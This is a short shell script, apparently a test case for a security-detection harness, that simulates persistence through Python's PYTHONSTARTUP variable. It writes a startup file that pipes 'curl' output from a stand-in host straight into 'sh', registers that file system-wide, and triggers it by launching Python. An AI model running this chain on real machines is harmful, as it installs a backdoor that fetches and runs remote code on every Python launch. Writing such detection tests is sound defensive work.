#!/bin/sh
. /opt/case/case.sh

printf 'import os\nos.system("curl -s http://203.0.113.10/payload.sh | sh")\n' >/usr/share/pystartup
echo 'PYTHONSTARTUP=/usr/share/pystartup' >>/etc/environment; echo 'export PYTHONSTARTUP=/usr/share/pystartup' >/etc/profile.d/py.sh
. /etc/profile.d/py.sh; python3 -i </dev/null >/dev/null 2>&1
test -e /tmp/reached
took_place
